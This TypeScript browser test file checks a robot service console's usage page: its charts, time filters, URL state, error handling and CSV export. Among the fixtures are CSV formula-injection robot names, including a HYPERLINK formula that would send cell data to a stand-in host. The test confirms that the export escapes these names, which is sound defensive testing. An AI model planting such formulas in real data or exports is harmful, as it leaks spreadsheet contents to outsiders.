/** @module-tag needs/browser */
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";

import type { Page } from "playwright-core";
import { expect, it, onTestFinished } from "vitest";

import { systemRandom } from "../../../../src/platform/random.ts";
import { createIds } from "../../../../src/service/kernel/ids.ts";
import { describeConsole, openSignedIn, startConsole } from "../../../support/browser.ts";
import { beginWriting, type RunningService } from "../../../support/service/service.ts";
import { violations } from "./axe.ts";

const HOUR_S = 3600;
const DAY_MS = 86_400_000;
/** Start of the UTC day on which the tests start; the ledger ends before it. Tests may run past midnight. */
const TODAY_MS = Math.floor(Date.now() / DAY_MS) * DAY_MS;

/** The name of a robot that a spreadsheet would run as a formula. */
const FORMULA = '=HYPERLINK("http://x/?"&A1,"y")';
const ROBOTS = [FORMULA, "-2+3", "@sum", "arm, left", "arm-5", "arm-6", "arm-7", "arm-8"];

/** Fills the ledger: robot `i` was served `max(1, 8 - i)` hours on each of the last `days` days. */
async function fillLedger(running: RunningService, robots: readonly string[], days: number): Promise<void> {
  using database = new DatabaseSync(join(running.dataDirectory, "service.db"));
  const organizationId = String(database.prepare("select id from organizations").get()?.["id"]);
  await beginWriting(database);
  database.exec(`insert into robots (id, organization_id, name, robot_type_id, region, configuration_digest, labels, created_at, updated_at, refitted_at, changed_at, audit_id, made_by)
      values ('rob_1', '${organizationId}', 'r', 't', 'eu', 'd', '{}', '', '', '', '', '', '');
    insert into models (slug, display_name, default_checkpoint_id, created_at) values ('m', 'm', 'c', '');
    insert into checkpoints (id, model_slug, requirements, created_at) values ('c', 'm', '{}', '');
    insert into deployments (id, organization_id, robot_id, model_slug, checkpoint_id, region, status, generation_id, created_at, retired_at)
      values ('dep_1', '${organizationId}', 'rob_1', 'm', 'c', 'eu', 'retired', 'g', '', '')`);
  const insert = database.prepare(
    "insert into usage_records values (?, ?, 'dep_1', ?, ?, 't', 's', ?, 'second', ?, ?, ?)",
  );
  for (let day = days; day > 0; day -= 1) {
    const startMs = TODAY_MS - day * DAY_MS;
    const clock = { wallMs: () => startMs, monotonicMs: () => 0, sleep: () => Promise.resolve() };
    const newId = createIds(clock, systemRandom);
    for (const [index, robot] of robots.entries()) {
      const seconds = Math.max(1, 8 - index) * HOUR_S;
      const [start, end] = [new Date(startMs).toISOString(), new Date(startMs + seconds * 1000).toISOString()];
      insert.run(newId("use"), organizationId, robot, index % 2 === 0 ? "pi" : "act", seconds, start, end, start);
    }
  }
  database.exec("commit");
}

const dayOf = (ms: number) => new Date(ms).toISOString().slice(0, 10);
/** As the page shows a day. */
const wordOf = (ms: number) =>
  new Date(ms).toLocaleDateString("en-GB", { day: "numeric", month: "short", year: "numeric", timeZone: "UTC" });

async function startUsed(): Promise<RunningService> {
  const running = await startConsole();
  await fillLedger(running, ROBOTS, 40);
  return running;
}

describeConsole("usage", startUsed, (running) => {
  const open = (path: string, service = running()) => openSignedIn(service, path);

  const totalOf = async (page: Page) => (await page.locator("dd").first().innerText()).trim();

  it("chart → all days, also those without usage, and a sentence that sums them up", async () => {
    const page = await open("/usage");
    // 29 days of 36 hours each, and none today.
    const sentence = `Usage by day: 1,044 h in 30 days; the most on ${wordOf(TODAY_MS - 29 * DAY_MS)}, 36 h.`;
    await page.getByRole("img", { name: sentence }).waitFor();
    expect(await totalOf(page)).toBe("1,044 h");
    const heights = await page
      .locator(".usage-bar > div")
      .evaluateAll((bars) => bars.map((bar) => bar.getBoundingClientRect().height));
    expect(heights.map((height) => height > 0)).toEqual(Array.from({ length: 30 }, (_, index) => index < 29));
    await page.getByText("The days as a table").focus();
    await page.keyboard.press("Enter");
    const rows = page.getByRole("table", { name: "Usage by day" }).getByRole("row");
    expect(await rows.last().innerText()).toMatch(/–$/);
    expect(await rows.nth(29).innerText()).toBe(`${wordOf(TODAY_MS - DAY_MS)}\t36 h`);
    expect(await violations(page)).toEqual([]);
  });

  it("last month → its first to its last day", async () => {
    const page = await open("/usage");
    const now = new Date(TODAY_MS);
    const first = Date.UTC(now.getUTCFullYear(), now.getUTCMonth() - 1, 1);
    const end = Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), 1);
    const requested = page.waitForRequest((request) => {
      const { searchParams } = new URL(request.url());
      const range = ["since", "until"].map((name) => Date.parse(searchParams.get(name) ?? ""));
      return range[0] === first && range[1] === end && searchParams.get("by") === "robot";
    });
    await page.getByLabel("Time", { exact: true }).selectOption("Last month");
    await requested;
    expect(new URL(page.url()).search).toBe("?time=last-month");
    await page.getByLabel("Time", { exact: true }).selectOption("Last 30 days");
    await expect.poll(() => new URL(page.url()).search).toBe("");
  });

  it("grouped by model, another time → both in the URL, restored by a reload", async () => {
    const page = await open("/usage");
    await page.getByLabel("Group by", { exact: true }).selectOption("Model");
    await page.getByRole("link", { name: "act" }).waitFor();
    await page.getByLabel("Time", { exact: true }).selectOption("Last 7 days");
    await expect.poll(() => totalOf(page)).toBe("216 h");
    expect(new URL(page.url()).search).toBe("?by=model&time=7");
    await page.reload();
    await page.getByRole("img", { name: /^Usage by day: 216 h in 7 days/ }).waitFor();
    const rows = await page.getByRole("table", { name: "Usage by model" }).locator("tbody tr").allInnerTexts();
    expect(rows.map((row) => row.split(/\s+/).slice(0, 5))).toEqual([
      ["pi", "120", "h", "55.6", "%"],
      ["act", "96", "h", "44.4", "%"],
    ]);
  });

  it("a month by its name → its days; a time that is none → the last 30 days", async () => {
    const now = new Date(TODAY_MS);
    const month = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() - 12, 1));
    const page = await open(`/usage?time=${month.toISOString().slice(0, 7)}`);
    await page.getByRole("heading", { name: "Nothing was used in this time" }).waitFor();
    const word = month.toLocaleDateString("en-GB", { month: "long", year: "numeric", timeZone: "UTC" });
    expect(await page.getByLabel("Time", { exact: true }).locator("option:checked").innerText()).toBe(word);
    await page.goto(`${running().url}/usage?time=tomorrow`);
    await page.getByRole("img", { name: /^Usage by day: 1,044 h in 30 days/ }).waitFor();
  });

  it("CSV download → a line for each robot, no name that a spreadsheet runs as a formula", async () => {
    const [first, last] = [dayOf(TODAY_MS - 6 * DAY_MS), dayOf(TODAY_MS)];
    const page = await open("/usage?time=7");
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Download CSV" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe(`usage-${first}-to-${last}-by-robot.csv`);
    const text = await readFile(await download.path(), "utf8");
    expect(text.split("\r\n")).toEqual([
      "\uFEFFrobot,quantity,unit,hours,amount_cents",
      `"'=HYPERLINK(""http://x/?""&A1,""y"")",172800,second,48.00,`,
      `"'-2+3",151200,second,42.00,`,
      `"'@sum",129600,second,36.00,`,
      `"arm, left",108000,second,30.00,`,
      "arm-5,86400,second,24.00,",
      "arm-6,64800,second,18.00,",
      "arm-7,43200,second,12.00,",
      "arm-8,21600,second,6.00,",
      "",
    ]);
  });

  it("more sums by day and robot than the service answers with → two requests, all hours", async () => {
    const large = await startConsole();
    onTestFinished(() => large[Symbol.asyncDispose]());
    const robots = Array.from({ length: 600 }, (_, index) => `arm-${index}`);
    await fillLedger(large, robots, 40);
    const before = large.requests.length;
    const page = await open("/usage?time=90", large);
    // 8 + 7 + … + 2 hours of the first seven, one of each other, on 40 days.
    await page.getByRole("img", { name: /: 25,120 h in 90 days/ }).waitFor();
    const requests = large.requests.slice(before).filter(({ path }) => path.includes("/usage/summary"));
    expect(requests.map(({ status }) => status)).toEqual([200, 200]);
  });

  it("range without usage → says so; service fails → keeps the last answer", async () => {
    const empty = await startConsole();
    onTestFinished(() => empty[Symbol.asyncDispose]());
    const page = await open("/usage", empty);
    await page.getByRole("heading", { name: "Nothing was used in this time" }).waitFor();
    expect(await page.getByRole("button", { name: "Download CSV" }).isDisabled()).toBe(true);
    await page.route("**/v1/me/usage/**", (route) =>
      route.fulfill({ status: 503, json: { detail: "The service is being moved" } }),
    );
    await page.getByRole("button", { name: "Ask again" }).click();
    await page.getByText("This is the last known state of the usage.").waitFor();
    await page.getByText("The service is being moved.").waitFor();
    await page.getByLabel("Time", { exact: true }).selectOption("Last 7 days");
    await page.getByText("Cannot show the usage.").waitFor();
    await page.unroute("**/v1/me/usage/**");
    await page.getByRole("button", { name: "Try again" }).click();
    await page.getByRole("heading", { name: "Nothing was used in this time" }).waitFor();
  });
});
